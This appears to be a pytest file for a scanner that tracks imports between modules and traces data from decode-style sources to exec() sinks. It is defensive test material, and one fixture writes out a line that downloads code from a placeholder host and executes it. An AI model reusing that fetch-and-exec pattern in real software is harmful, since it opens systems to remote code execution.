"""Which modules hang together: imports are seen however they are written, without parsing."""

from __future__ import annotations

import hashlib

import pytest

from pratique.artifact import Member, Role
from pratique.facts.selection import makes_classes, select, setting_off
from pratique.names import Sha256

_FEED = "import base64\nTEXT = base64.b64decode('aGVsbG8=')\n"
_SINK = "def run(text):\n    exec(text)\n"


def _member(path: str, source: str) -> Member:
    data = source.encode()
    return Member(
        path=path, data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data), role=Role.MODULE
    )


@pytest.mark.parametrize(
    "line",
    [
        "from pkg import sink",
        "from . import sink",
        "from .import sink",
        "from.sink import run",
        "from .sink import(run)",
        "from . import (\n    other,  # first\n    sink,\n)",
        "from \\\n    . \\\n    import sink",
        "import pkg.sink",
        "import os, pkg.sink as s",
        "x = 1; import pkg.sink",
        "try: from . import sink\nexcept ImportError: pass",
        "__import__('pkg.sink')",
    ],
)
def test_halves_of_a_chain_are_both_parsed_where_one_imports_the_other(line: str) -> None:
    """A source in one module and a sink in another belong together by any spelling of the import."""
    sources = [
        _member("pkg/__init__.py", ""),
        _member("pkg/sink.py", _SINK),
        _member("pkg/feed.py", f"{line}\n{_FEED}"),
    ]
    assert "pkg/feed.py" in select(sources).chosen


@pytest.mark.parametrize("line", ["# import pkg.sink", ">>> from pkg import sink", "important = 'pkg.sink'"])
def test_what_only_speaks_of_a_module_does_not_import_it(line: str) -> None:
    """Comments and examples join nothing."""
    text = f'"""\n{line}\n"""\n{_FEED}' if ">>>" in line else f"{line}\n{_FEED}"
    sources = [_member("pkg/__init__.py", ""), _member("pkg/sink.py", _SINK), _member("pkg/feed.py", text)]
    assert "pkg/feed.py" not in select(sources).chosen


@pytest.mark.parametrize("path", ["examples/a.py", "pkg/tests/deep/a.py", "docs/a.py"])
def test_what_lies_beside_a_package_is_aside(path: str) -> None:
    """Nobody imports it; the initial module of such a folder is a module like any other."""
    source = "import os, urllib.request\nexec(urllib.request.urlopen('http://a.example.invalid').read())\n"
    assert path in select([_member(path, source)]).aside
    assert (
        path.replace("a.py", "__init__.py") not in select([_member(path.replace("a.py", "__init__.py"), source)]).aside
    )


@pytest.mark.parametrize(
    ("text", "sets_off"),
    [
        ("from pkg.sink import run\nrun(1)\n", True),
        ("from pkg import sink\nsink.run(1)\n", True),
        ("import pkg\npkg.run(1)\n", True),
        ("import importlib, sys\ngetattr(importlib.import_module(sys.argv[1]), 'run')(1)\n", True),
        ("import subprocess\nsubprocess.run(1)\n", False),
        ("from pkg.other import go\ngo.run()\n", False),
        ("from pkg.stars import run\nrun()\n", True),
        ("from pkg import stars\nstars.run()\n", True),
    ],
)
def test_a_module_sets_off_what_it_can_reach(text: str, *, sets_off: bool) -> None:
    """A name that none of its imports knows is somebody else's, unless names are reached by text."""
    sources = [
        _member("pkg/__init__.py", "from pkg.sink import run\n"),
        _member("pkg/sink.py", _SINK),
        _member("pkg/other.py", "def go(): pass\n"),
        _member("pkg/stars.py", "from pkg.more import *\n"),
        _member("pkg/more.py", "from pkg.sink import *\n"),
        _member("pkg/start.py", text),
    ]
    found = setting_off(sources, select(sources), frozenset({"run"}))
    assert ("pkg/start.py" in {member.path for member in found}) is sets_off


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("class A:\n    def __init_subclass__(cls): go()\n", True),
        ("class M(type):\n    pass\n", True),
        ("class A(metaclass=go): pass\n", True),
        ("class A(metaclass=abc.ABCMeta): pass\n", False),
        ("class A(B): pass\n", False),
    ],
)
def test_making_a_class_runs_what_has_a_say_in_it(text: str, *, runs: bool) -> None:
    """Metaclasses and hooks of the classes that another one inherits from (PEP 487)."""
    assert makes_classes([_member("pkg/a.py", text)]) is runs
